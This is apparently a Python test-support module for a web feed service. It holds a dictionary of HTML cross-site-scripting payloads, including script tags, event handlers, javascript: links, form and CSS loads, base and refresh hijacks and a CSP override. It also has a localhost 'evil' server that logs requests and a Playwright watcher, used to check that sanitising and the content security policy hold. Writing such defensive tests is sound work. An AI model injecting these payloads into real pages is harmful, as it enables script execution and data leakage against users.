"""A hostile stranger: attacks, the server that they call, and what is noticed of them."""

import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import ThreadingMixIn
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer
from wsgiref.types import StartResponse, WSGIApplication, WSGIEnvironment

from playwright.sync_api import Dialog, Page, Request

from feedsvc.web.cache import ExcInfo
from feedsvc.web.headers import Fields

SHOWN = {"image", "media"}
"""What a page may fetch from elsewhere."""

ALLOWED = {"/image", "/media", "/prefetch"}
"""A prefetched document tells its server no more than a picture does, and is not shown: browsers
let it pass where a policy lets anything pass."""

ATTACKS = {
    "script": '<script src="{evil}/script"></script><script>alert(1)</script>',
    "handler": '<img src="{evil}/image" onload="alert(1)"><img src=x onerror=alert(1)>',
    "focus": "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
    "link": '<a href="javascript:alert(1)">press</a><a href="data:text/html,x">press</a>',
    "form": '<form action="{evil}/form"><input name=a><button>press</button></form>',
    "button": '<button formaction="{evil}/button" form=f>press</button><form id=f></form>',
    "frame": '<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>alert(1)</script>">',
    "object": '<object data="{evil}/object"></object><embed src="{evil}/embed">',
    "svg": '<svg onload=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">'
    '<text y="9">press</text></a></svg>',
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "style": '<style>@import "{evil}/import"; * {{ display: none !important }}</style>',
    "inline": '<div style="position:fixed;inset:0;background:url({evil}/inline)">over it all</div>',
    "font": "<style>@font-face {{ font-family: x; src: url({evil}/font) }}"
    "* {{ font-family: x }}</style>",
    "sheet": '<link rel=stylesheet href="{evil}/sheet"><link rel=prefetch href="{evil}/prefetch">',
    "base": '<base href="{evil}/"><a href="/base">press</a>',
    "refresh": '<meta http-equiv=refresh content="0;url={evil}/refresh">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "out": "</div></article></main></body></html><main><h1>Ours</h1></main><!--",
    "text": "<textarea><plaintext>",
    "title": "<title><template><select><noscript><xmp>",
    "unseen": '<p class="unseen credit" id="main" name="x" hidden>words</p>',
    "sound": '<audio src="{evil}/media" autoplay></audio><video poster="{evil}/image"></video>',
}


class _Quiet(WSGIRequestHandler):
    def log_message(self, *_: object) -> None:
        """Say nothing."""


class _Threads(ThreadingMixIn, WSGIServer):
    daemon_threads = True


@contextmanager
def serving(application: WSGIApplication) -> Iterator[str]:
    server = _Threads(("127.0.0.1", 0), _Quiet)
    server.set_app(application)
    with _running(server):
        yield f"http://127.0.0.1:{server.server_port}"


@contextmanager
def _running(server: WSGIServer | ThreadingHTTPServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@dataclass
class Evil:
    """A server of strangers: what it was asked for, and with which Referer."""

    url: str = ""
    asked: list[tuple[str, str | None]] = field(default_factory=list)

    @property
    def paths(self) -> set[str]:
        return {path for path, _ in self.asked}


@contextmanager
def evil_server() -> Iterator[Evil]:
    seen = Evil()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.asked.append((self.path, self.headers["Referer"]))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    seen.url = f"http://127.0.0.1:{server.server_port}"
    with _running(server):
        yield seen


def lawless(application: WSGIApplication) -> WSGIApplication:
    """The application without its Content-Security-Policy."""

    def ask(environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        def start(
            status: str, headers: Fields, error: ExcInfo | None = None, /
        ) -> Callable[[bytes], object]:
            kept = [one for one in headers if one[0] != "Content-Security-Policy"]
            assert len(kept) == len(headers) - 1
            return start_response(status, kept, error)

        return application(environ, start)

    return ask


class Watch:
    """What a page did that no page of ours does."""

    def __init__(self, page: Page, base: str) -> None:
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.others: list[str] = []
        self._base = base
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("popup", lambda other: self.others.append(other.url))
        page.on("pageerror", lambda error: self.others.append(str(error)))
        page.on("download", lambda file: self.others.append(file.url))

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith(self._base) and request.resource_type not in SHOWN:
            self.requests.append(f"{request.resource_type} {request.url}")

    def forget(self) -> None:
        for one in (self.dialogs, self.requests, self.others):
            one.clear()

    def found(self) -> list[str]:
        return self.dialogs + self.requests + self.others
